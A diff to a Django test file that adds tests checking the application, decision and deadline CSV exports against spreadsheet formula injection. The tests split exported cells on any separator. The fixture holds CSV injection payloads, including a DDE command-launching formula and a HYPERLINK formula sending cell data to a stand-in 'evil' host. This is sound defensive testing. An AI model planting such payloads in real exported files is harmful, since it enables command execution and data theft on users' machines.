@@ -42,7 +42,7 @@ def test_the_applications_csv_streams_from_a_generator(login, world, kazakh):
     assert inspect.isgenerator(exports.application_rows(PermitApplication.objects.none()))
     assert inspect.isgenerator(exports.csv_lines(["a"], iter([])))
     first = next(iter(response.streaming_content))
-    assert first.startswith(b"\xef\xbb\xbfid,title,")
+    assert first.startswith(b'\xef\xbb\xbf"id","title",')  # every field quoted
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"].startswith('attachment; filename="ruqsat-applications-')
 
@@ -148,3 +148,64 @@ def test_the_export_reads_the_database_in_a_few_queries_whatever_the_rows(login,
     client = login(world.coordinator)
     with django_assert_max_num_queries(12):
         b"".join(client.get(reverse("reports:export_applications")).streaming_content)
+
+
+# --- Formula injection, as Excel in ru-KZ and kk-KZ reads the file (it splits on `;`) ------------
+
+ATTACK = "ok;=cmd|' /C calc'!A0;x"
+FORMULA_STARTS = ("=", "+", "-", "@")
+
+
+def cells_however_split(body: bytes) -> list[str]:
+    """Every piece a spreadsheet could take for a cell: the file split on `,` `;` or tab and on line
+    breaks with the quotes ignored altogether (a quote out of step does that), stripped of the
+    spaces and quotes a spreadsheet would skip."""
+    text = body.decode("utf-8-sig").replace("\r\n", "\n").replace("\r", "\n")
+    pieces = []
+    for separator in (",", ";", "\t"):
+        for line in text.split("\n"):
+            pieces += [piece.lstrip(' "') for piece in line.split(separator)]
+    return pieces
+
+
+def armed(pieces: list[str]) -> list[str]:
+    return [piece for piece in pieces if piece.startswith(FORMULA_STARTS)]
+
+
+@pytest.fixture
+def attacked(world):
+    """An application, its refusal and its deadlines carrying the attack in every text a member can
+    write."""
+    application = refused_application(organization=world.lead, title=ATTACK)
+    application.reference_number = ATTACK
+    application.location = 'Абая 10,=HYPERLINK("http://evil/"&A1)'
+    application.purpose = "first line\n@SUM(1+1)*cmd|' /C calc'!A0"
+    application.route = '"; -2+3'
+    application.save()
+    decision = application.decisions.get()
+    decision.reference_number = ATTACK
+    decision.conditions = "a\t+1+1"
+    decision.save()
+    decision.grounds.update(quote=ATTACK, note="=1+1")
+    application.deadlines.update(title=ATTACK, override_reason="x;@cmd")
+    return application
+
+
+@pytest.mark.parametrize("name", ["export_applications", "export_decisions", "export_deadlines"])
+def test_no_cell_of_the_csv_can_start_a_formula_whatever_the_separator(login, world, attacked, name):
+    body = b"".join(login(world.coordinator).get(reverse(f"reports:{name}")).streaming_content)
+    assert ATTACK.split(";")[1] in body.decode("utf-8-sig")  # the attack is exported…
+    assert armed(cells_however_split(body)) == []  # …and nowhere can it start a cell
+
+
+def test_the_attack_reads_back_whole_and_visibly_defused_from_the_csv(login, world, attacked):
+    rows = rows_of(login(world.coordinator).get(reverse("reports:export_applications")))
+    record = dict(zip(rows[0], rows[1], strict=True))
+    assert record["reference number"] == "ok;'=cmd|' /C calc'!A0;x"
+    assert record["purpose"] == "first line\n'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_every_csv_field_is_quoted(login, world, attacked):
+    body = b"".join(login(world.coordinator).get(reverse("reports:export_applications")).streaming_content)
+    first_row = body.decode("utf-8-sig").split("\r\n")[1]
+    assert first_row.startswith(f'"{attacked.pk}","')
